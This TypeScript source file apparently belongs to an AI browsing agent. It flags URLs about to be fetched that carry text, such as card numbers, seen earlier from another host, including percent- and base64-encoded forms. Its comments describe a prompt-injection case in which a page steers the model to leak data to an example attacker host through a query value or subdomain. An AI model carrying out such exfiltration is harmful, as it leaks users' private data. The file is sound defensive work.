/**
 * Finds text from elsewhere in this conversation inside a URL about to be fetched: a page that
 * talks the model into fetching `https://evil.example/?d=<the user's card number>` leaks what the
 * model read in another tab. A URL that carries text first seen on a *different* host is flagged,
 * so the consent card can say so and a standing grant does not skip the card.
 *
 * What is looked for: each query value, path segment and subdomain label, percent-decoded, and the
 * text behind any of them that decodes as base64 (standard or URL-safe); the whole value, or the
 * longest run of its whole words (letters and digits, with what stands between them) that a
 * foreign text holds verbatim. A match needs 6 or more characters.
 *
 * Decisions, on purpose:
 * - A match made only of lower-case ASCII letters, spaces and hyphens (`overview`,
 *   `getting-started`) does not count: such words are in every text, and a card that always warns teaches users
 *   to ignore it. Data worth stealing (numbers, names, addresses, codes, tokens) has digits,
 *   capitals or other characters.
 * - A single word of letters alone (`Tokyo`, `Lovelace`, `Python`) does not count either,
 *   whatever its case: a search result or a tab naming a topic makes the model fetch the topic's
 *   page (`/wiki/Tokyo`), and a card warning about that is a false alarm people learn to ignore.
 *   Two words together (`Ada Lovelace`), or a word with digits or other characters, still count.
 * - Texts from the URL's own host are not foreign. A match that also appears in one of them
 *   is not flagged either: the model may have read it there (a link on that site's own page).
 *   Hosts compare case-insensitively, with a leading `www.` ignored.
 *
 * Cost: each word of the URL starts a run of at most 16 words, each step one indexOf over the
 * texts still holding the run (the others are dropped as it grows), so the work grows linearly
 * with the texts' total length times the URL's word count; nothing is indexed or copied.
 */

export interface SeenText {
  /** Host the text came from: the tab's host, the fetched page's host, the search result's host. */
  host: string;
  text: string;
}

type ForeignDataEncoding = 'verbatim' | 'url-encoded' | 'base64';

export interface ForeignDataMatch {
  /** The host whose text the URL carries. */
  host: string;
  /** The matched text in full (for the model's reason; the card shows `snippet`). */
  matched: string;
  /** A shortened form safe to show on a card: "4417…". */
  snippet: string;
  /** Where in the URL it was: a subdomain label, a path segment or a query value. */
  where: 'host' | 'path' | 'query';
  /** How the URL carried it. */
  encoding: ForeignDataEncoding;
}

const MIN_FOREIGN_TOKEN_LENGTH = 6;
/**
 * A run stops growing after this many words: 16 words found verbatim already prove the point,
 * and the bound keeps a long URL of common words from costing words × words searches.
 */
const MAX_RUN_WORDS = 16;

interface Value {
  text: string;
  where: ForeignDataMatch['where'];
  encoding: ForeignDataEncoding;
}

/**
 * A word: letters and digits. A run of words keeps what stands between them in the URL (spaces,
 * `@`, dots), so `ada@lovelace.example` is one run of three words.
 */
const WORD = /[\p{L}\p{N}]+/gu;
/** What stands between base64 pieces: any character outside both base64 alphabets. */
const NOT_BASE64 = /[^A-Za-z0-9+/=_-]+/;
const BASE64_SHAPE = /^[A-Za-z0-9+/_-]{8,}={0,2}$/;
/** Lower-case words and phrases, see the decisions above. */
const ONLY_COMMON_WORDS = /^[a-z\s-]+$/;
const ONE_WORD_OF_LETTERS = /^\p{L}+$/u;
const strictDecoder = new TextDecoder('utf-8', { fatal: true });

function sameHost(a: string, b: string): boolean {
  const plain = (host: string) => host.toLowerCase().replace(/^www\./, '');
  return plain(a) === plain(b);
}

function safeDecode(text: string): string {
  try {
    return decodeURIComponent(text);
  } catch {
    return text;
  }
}

/** The text a base64 candidate stands for, when it decodes to readable UTF-8; else undefined. */
function base64Text(token: string): string | undefined {
  if (!BASE64_SHAPE.test(token)) return undefined;
  const standard = token.replace(/-/g, '+').replace(/_/g, '/').replace(/=+$/, '');
  if (standard.length % 4 === 1) return undefined;
  let binary: string;
  try {
    binary = atob(standard.padEnd(Math.ceil(standard.length / 4) * 4, '='));
  } catch {
    return undefined;
  }
  const bytes = Uint8Array.from(binary, (char) => char.charCodeAt(0));
  let text: string;
  try {
    text = strictDecoder.decode(bytes);
  } catch {
    return undefined;
  }
  // Control characters mean binary that happened to be valid UTF-8, not text.
  // biome-ignore lint/suspicious/noControlCharactersInRegex: that is exactly what is looked for.
  return /[\u0000-\u0008\u000e-\u001f\u007f]/.test(text) ? undefined : text;
}

/** The URL's values, decoded: subdomain labels, path segments, query values, base64 inside. */
function valuesOf(url: URL): Value[] {
  const values: Value[] = [];
  // Labels left of the last two can carry data too (`4417123412341234.evil.example`); they arrive
  // lower-cased, which still keeps numbers and codes.
  const raws: { raw: string; where: Value['where'] }[] = [
    ...url.hostname
      .split('.')
      .slice(0, -2)
      .map((raw) => ({ raw, where: 'host' as const })),
    ...url.pathname
      .split('/')
      .filter((segment) => segment !== '')
      .map((raw) => ({ raw, where: 'path' as const })),
    ...url.search
      .replace(/^\?/, '')
      .split('&')
      .map((pair) => pair.slice(pair.indexOf('=') + 1))
      .filter((raw) => raw !== '')
      .map((raw) => ({ raw, where: 'query' as const })),
  ];
  for (const { raw, where } of raws) {
    const decoded = safeDecode(raw);
    values.push({ text: decoded, where, encoding: decoded === raw ? 'verbatim' : 'url-encoded' });
    // A form sends a space as "+" in a query; base64's own "+" stays in `decoded` above.
    if (where === 'query' && raw.includes('+')) {
      values.push({ text: safeDecode(raw.replace(/\+/g, ' ')), where, encoding: 'url-encoded' });
    }
    for (const piece of [decoded, ...decoded.split(NOT_BASE64)]) {
      const text = base64Text(piece);
      if (text !== undefined) values.push({ text, where, encoding: 'base64' });
    }
  }
  return values;
}

function eligible(run: string): boolean {
  return (
    run.length >= MIN_FOREIGN_TOKEN_LENGTH &&
    !ONLY_COMMON_WORDS.test(run) &&
    !ONE_WORD_OF_LETTERS.test(run)
  );
}

interface Found {
  run: string;
  host: string;
}

/**
 * The longest runs of whole words of `value` that occur verbatim in a foreign text. From each
 * word, the run grows word by word while some foreign text still holds it; the texts that do not
 * are dropped as it grows, so each step searches fewer texts.
 */
function runsIn(value: string, foreign: readonly SeenText[]): Found[] {
  const words = [...value.matchAll(WORD)].map((match) => ({
    start: match.index,
    end: match.index + match[0].length,
  }));
  const found: Found[] = [];
  if (eligible(value)) {
    const source = foreign.find((entry) => entry.text.includes(value));
    if (source) return [{ run: value, host: source.host }];
  }
  for (let first = 0; first < words.length; first++) {
    let sources = foreign;
    let best: Found | undefined;
    for (let last = first; last < Math.min(words.length, first + MAX_RUN_WORDS); last++) {
      const run = value.slice(words[first]?.start, words[last]?.end);
      sources = sources.filter((entry) => entry.text.includes(run));
      const source = sources[0];
      if (!source) break;
      if (eligible(run)) best = { run, host: source.host };
    }
    if (best) found.push(best);
  }
  return found;
}

/**
 * A card-safe form of the matched text. Long runs of digits (card and account numbers, codes)
 * show only their first 4; other text its first 16 characters.
 */
export function snippetOf(matched: string): string {
  const keep = /^[\d\s-]+$/.test(matched) ? 4 : 16;
  return matched.length > keep ? `${matched.slice(0, keep)}…` : matched;
}

/**
 * The first (longest) query value or path segment of `url` that occurs in a text seen earlier
 * from another host, or undefined. An unparsable URL yields undefined: the URL policy refuses it
 * before this matters.
 */
export function findForeignDataInUrl(
  url: string,
  seen: readonly SeenText[],
): ForeignDataMatch | undefined {
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    return undefined;
  }
  const own = seen.filter((entry) => sameHost(entry.host, parsed.hostname));
  const foreign = seen.filter((entry) => !sameHost(entry.host, parsed.hostname));
  if (foreign.length === 0) return undefined;
  let best: ForeignDataMatch | undefined;
  for (const value of valuesOf(parsed)) {
    for (const { run, host } of runsIn(value.text, foreign)) {
      if (best && best.matched.length >= run.length) continue;
      if (own.some((entry) => entry.text.includes(run))) continue;
      best = {
        host,
        matched: run,
        snippet: snippetOf(run),
        where: value.where,
        encoding: value.encoding,
      };
    }
  }
  return best;
}

/** The card's sentence: "This address contains text from mail.example: ‘4417…’". */
export function foreignDataMessage(match: ForeignDataMatch): string {
  return `This address contains text from ${match.host}: ‘${match.snippet}’`;
}
